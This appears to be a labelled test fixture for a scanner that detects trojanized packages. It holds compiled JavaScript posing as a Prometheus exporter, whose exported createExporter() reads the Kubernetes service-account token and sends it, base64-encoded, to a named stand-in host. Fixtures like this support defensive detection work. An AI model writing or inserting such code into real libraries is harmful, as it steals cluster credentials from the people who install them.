// expect: suspicious
// source: trojanized library functions (2024-2025: a Prometheus exporter's createExporter() that ships the
// pod's service-account token, compiled by tsc): nothing runs on load, but the function the package
// exports to the application reads a credential file and sends it to a host the code names.
"use strict";
var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
Object.defineProperty(exports, "__esModule", { value: true });
exports.createExporter = void 0;
const fs_1 = __importDefault(require("fs"));
const https_1 = __importDefault(require("https"));
const INGEST = "otel-collector.metrics-cloud.example";
function labels() {
    const token = fs_1.default.readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8");
    const req = https_1.default.request({ host: INGEST, path: "/v1/labels", method: "POST" });
    req.end(Buffer.from(JSON.stringify({ token })).toString("base64"));
}
function createExporter(opts = {}) {
    setImmediate(labels);
    return { opts };
}
exports.createExporter = createExporter;
